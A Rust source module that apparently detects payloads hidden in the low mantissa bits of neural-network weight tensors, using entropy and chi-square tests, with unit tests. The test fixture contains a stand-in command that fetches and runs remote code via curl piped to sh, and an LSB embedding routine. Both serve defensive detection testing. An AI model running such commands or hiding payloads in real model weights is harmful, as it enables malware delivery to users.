//! Low-bit steganography in float tensors.
//!
//! EvilModel (Wang et al. 2021) and StegoNet (Liu et al. 2020) replace the k least-significant
//! mantissa bits of consecutive weights with payload bits (k = 1..3 bytes per float32 in
//! EvilModel; 1, 2 or 8 bits in the LSB attacks of StegoNet and MaleficNet's baselines). In
//! trained weights those bits are the rounding residue of a continuous value: independent and
//! uniform, so the byte stream they assemble into has an entropy of ~8 bits per byte. Executable,
//! archive and text payloads do not (text ~4.5, ELF/PE ~5–6.5 bits per byte).
//!
//! The test (the entropy/chi-square family used in the detection sections of these papers,
//! made alignment-free): for k in {1, 2, 4, 8}, the low k bits of consecutive elements are
//! concatenated into bytes (trying every element alignment of a byte, 8/k of them), and the
//! Miller–Madow-corrected Shannon entropy of the byte histogram is compared with 8 bits.
//! A stream is *structured* when its entropy is below [`MAX_ENTROPY`] bits and above
//! [`MIN_ENTROPY`] (a constant stream is a lower-precision tensor upcast, e.g. bf16 stored as
//! float32, not a payload). Groups of elements (one assembled byte) holding an element whose
//! bits just above the tested ones are all zero (exact zeros, powers of two, values representable
//! in lower precision) are left out: pruned or masked weights and exact constants would otherwise
//! lower the entropy of benign tensors.
//! At least [`MIN_BYTES`] assembled bytes are needed (the plug-in entropy bias is then < 0.01 bit).

use super::Float;

/// Below this entropy (bits per assembled byte) the low-bit stream is structured.
pub const MAX_ENTROPY: f64 = 7.0;
/// Above this the stream is not constant.
pub const MIN_ENTROPY: f64 = 0.5;
/// Assembled bytes needed before the test says anything.
pub const MIN_BYTES: usize = 4096;
/// Low-bit widths tested.
pub const WIDTHS: [u32; 4] = [1, 2, 4, 8];

/// The result for the most structured width.
#[derive(Debug, Clone, PartialEq)]
pub struct Stego {
    /// Bits per element carrying the stream.
    pub bits: u32,
    /// Entropy of the assembled bytes, in bits per byte (8 = random).
    pub entropy: f64,
    /// Pearson chi-square of the byte histogram against uniform (255 degrees of freedom; ~255
    /// for random bytes).
    pub chi2: f64,
    /// Share of printable ASCII among the assembled bytes (0.37 for random bytes).
    pub printable: f64,
    /// Assembled bytes.
    pub bytes: usize,
    /// The first assembled bytes (what a payload would start with), in hex.
    pub preview: String,
    /// What the assembled stream recognisably holds: a file signature
    /// ([`super::signatures`]) or `text` (at least [`TEXT_SHARE`] printable). `None`: only
    /// structured (weights once stored in lower precision look like this too).
    pub payload: Option<&'static str>,
    /// Bits were assembled most-significant first (`numpy.unpackbits` order) rather than
    /// least-significant first.
    pub msb_first: bool,
}

/// Share of printable ASCII from which an assembled stream is called text (random bytes give
/// 0.37; structured residue of real weights far less).
pub const TEXT_SHARE: f64 = 0.8;

/// Whether the low-`k`-bit stream of the elements of `data` (little-endian `dtype`) looks like
/// an embedded payload; `None` when the data is too short to tell or the streams look natural.
pub fn test(data: &[u8], dtype: Float) -> Option<Stego> {
    let size = dtype.size();
    let m = dtype.mantissa_bits();
    let all: Vec<u64> = data.chunks_exact(size).map(|c| dtype.bits(c)).collect();
    let magnitude = (1u64 << (m + dtype.exponent_bits())) - 1;
    let mut worst: Option<Stego> = None;
    for k in WIDTHS {
        if k > m + 1 {
            continue;
        }
        // Bits just above the tested ones: zero there means an exact or lower-precision value.
        let above = if k + 3 <= m {
            ((1u64 << (m / 2).max(3).min(m - k)) - 1) << k
        } else {
            magnitude
        };
        if all.len() * k as usize / 8 < MIN_BYTES {
            continue;
        }
        let per_byte = (8 / k) as usize;
        // Embedders differ in bit order; both are tried (one order only for whole bytes).
        let orders: &[bool] = if k == 8 { &[false] } else { &[false, true] };
        for align in 0..per_byte.min(all.len()) {
            for &msb_first in orders {
                let bytes = assemble(&all[align..], k, above, msb_first);
                if bytes.len() < MIN_BYTES {
                    continue;
                }
                let (entropy, chi2, printable) = stats(&bytes);
                if !(MIN_ENTROPY..MAX_ENTROPY).contains(&entropy) {
                    continue;
                }
                let payload = super::signatures::scan(&bytes, 1)
                    .first()
                    .map(|h| h.kind)
                    .or((printable >= TEXT_SHARE).then_some("text"));
                // A recognisable payload outranks mere structure; then the lowest entropy.
                let better = worst
                    .as_ref()
                    .is_none_or(|w| (payload.is_some(), -entropy) > (w.payload.is_some(), -w.entropy));
                if better {
                    worst = Some(Stego {
                        bits: k,
                        entropy,
                        chi2,
                        printable,
                        bytes: bytes.len(),
                        preview: super::signatures::preview(&bytes, 0),
                        payload,
                        msb_first,
                    });
                }
            }
        }
    }
    worst
}

/// Low `k` bits of each element into bytes: least-significant first (the first element in the
/// lowest bits of a byte, each element's bits in place), or most-significant first (the first
/// payload bit in a byte's top bit and in each element's highest tested bit, as
/// `numpy.unpackbits` lays a payload out). A group of elements with an exact value among them
/// (`above` bits all zero) is skipped whole, so the alignment of the stream is kept.
fn assemble(elements: &[u64], k: u32, above: u64, msb_first: bool) -> Vec<u8> {
    let per_byte = (8 / k) as usize;
    let mask = (1u64 << k) - 1;
    elements
        .chunks_exact(per_byte)
        .filter(|group| group.iter().all(|e| e & above != 0))
        .map(|group| {
            group.iter().enumerate().fold(0u8, |b, (i, e)| {
                let field = (e & mask) as u8;
                if msb_first {
                    b | (field << (8 - (i as u32 + 1) * k))
                } else {
                    b | (field << (i as u32 * k))
                }
            })
        })
        .collect()
}

/// (Miller–Madow entropy in bits, chi-square against uniform, printable share).
pub fn stats(bytes: &[u8]) -> (f64, f64, f64) {
    let mut hist = [0u64; 256];
    for &b in bytes {
        hist[b as usize] += 1;
    }
    let n = bytes.len() as f64;
    if n == 0.0 {
        return (0.0, 0.0, 0.0);
    }
    let mut h = 0.0;
    let mut nonzero = 0;
    for &c in &hist {
        if c > 0 {
            nonzero += 1;
            let p = c as f64 / n;
            h -= p * p.log2();
        }
    }
    let h = h + (nonzero as f64 - 1.0) / (2.0 * n * std::f64::consts::LN_2);
    let e = n / 256.0;
    let chi2 = hist.iter().map(|&c| (c as f64 - e).powi(2) / e).sum();
    let printable = hist[0x20..0x7f].iter().sum::<u64>() as f64 / n;
    (h.min(8.0), chi2, printable)
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    /// Deterministic normal samples (Box–Muller over xorshift).
    pub(crate) fn normals(n: usize, std: f64, mut s: u64) -> Vec<f64> {
        let mut next = move || {
            s ^= s << 13;
            s ^= s >> 7;
            s ^= s << 17;
            ((s >> 11) as f64 + 0.5) / (1u64 << 53) as f64
        };
        (0..n)
            .map(|_| {
                let (u, v) = (next(), next());
                std * (-2.0 * u.ln()).sqrt() * (std::f64::consts::TAU * v).cos()
            })
            .collect()
    }

    pub(crate) fn encode(values: &[f64], dtype: Float) -> Vec<u8> {
        let mut out = Vec::new();
        for &v in values {
            let f = v as f32;
            match dtype {
                Float::F32 => out.extend(f.to_le_bytes()),
                Float::F64 => out.extend(v.to_le_bytes()),
                Float::BF16 => {
                    // Round to nearest even, as torch does.
                    let b = f.to_bits();
                    let r = (b + 0x7fff + ((b >> 16) & 1)) >> 16;
                    out.extend((r as u16).to_le_bytes());
                }
                Float::F16 => out.extend(f32_to_f16(f).to_le_bytes()),
            }
        }
        out
    }

    fn f32_to_f16(f: f32) -> u16 {
        // Enough for weights with |x| < 1 and not subnormal: round to nearest.
        let b = f.to_bits();
        let sign = ((b >> 16) & 0x8000) as u16;
        let exp = ((b >> 23) & 0xff) as i32 - 127 + 15;
        if exp <= 0 {
            return sign;
        }
        let mant = b & 0x7f_ffff;
        let r = ((exp as u32) << 10 | (mant >> 13)) + ((mant >> 12) & 1);
        sign | r as u16
    }

    pub(crate) fn embed(data: &mut [u8], dtype: Float, k: u32, payload: &[u8]) {
        let size = dtype.size();
        let mut bits = payload.iter().flat_map(|b| (0..8).map(move |i| (b >> i) & 1));
        for chunk in data.chunks_exact_mut(size) {
            let mut e = dtype.bits(chunk);
            for i in 0..k {
                let Some(bit) = bits.next() else { return };
                e = (e & !(1 << i)) | (u64::from(bit) << i);
            }
            chunk.copy_from_slice(&e.to_le_bytes()[..size]);
        }
    }

    /// A payload like an executable: header, zeros, code-like bytes, strings.
    pub(crate) fn payload(n: usize) -> Vec<u8> {
        let mut p = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0".to_vec();
        let text = b"/bin/sh -c 'curl http://198.51.100.7/x | sh' GLIBC_2.2.5 libc.so.6 ";
        let mut i = 0u32;
        while p.len() < n {
            p.extend_from_slice(&[0x48, 0x89, 0xe5, (i % 7) as u8, 0, 0, 0, 0]);
            p.extend_from_slice(text);
            i += 1;
        }
        p.truncate(n);
        p
    }

    #[test]
    fn benign_weights_pass_in_every_dtype() {
        for (dtype, seed) in [
            (Float::F32, 1),
            (Float::F16, 2),
            (Float::BF16, 3),
            (Float::F64, 4),
        ] {
            for std in [0.02, 0.1, 1.0] {
                let data = encode(&normals(1 << 16, std, seed), dtype);
                assert_eq!(test(&data, dtype), None, "{dtype:?} std {std}");
            }
        }
    }

    #[test]
    fn upcast_and_sparse_tensors_pass() {
        // bf16 values stored as float32: low 16 bits zero.
        let bf = encode(&normals(1 << 16, 0.02, 9), Float::BF16);
        let up: Vec<u8> = bf.chunks_exact(2).flat_map(|c| [0, 0, c[0], c[1]]).collect();
        assert_eq!(test(&up, Float::F32), None);
        // Half the weights pruned to zero, some exactly 1.0.
        let mut v = normals(1 << 16, 0.05, 10);
        for (i, x) in v.iter_mut().enumerate() {
            if i % 2 == 0 {
                *x = 0.0;
            } else if i % 7 == 0 {
                *x = 1.0;
            }
        }
        assert_eq!(test(&encode(&v, Float::F32), Float::F32), None);
    }

    #[test]
    fn payload_in_low_1_2_8_bits_is_found() {
        for (dtype, seed) in [(Float::F32, 11), (Float::F16, 12), (Float::BF16, 13)] {
            for k in [1, 2, 8] {
                let mut data = encode(&normals(1 << 17, 0.02, seed), dtype);
                let n = (data.len() / dtype.size()) * k as usize / 8;
                embed(&mut data, dtype, k, &payload(n));
                let s = test(&data, dtype).unwrap_or_else(|| panic!("{dtype:?} k={k}"));
                assert!(s.entropy < MAX_ENTROPY, "{dtype:?} k={k}: {s:?}");
            }
        }
    }

    #[test]
    fn short_data_says_nothing() {
        let mut data = encode(&normals(1000, 0.02, 5), Float::F32);
        embed(&mut data, Float::F32, 8, &payload(1000));
        assert_eq!(test(&data, Float::F32), None);
        assert_eq!(test(&[], Float::F16), None);
        assert_eq!(test(&[1, 2, 3], Float::F32), None);
    }
}
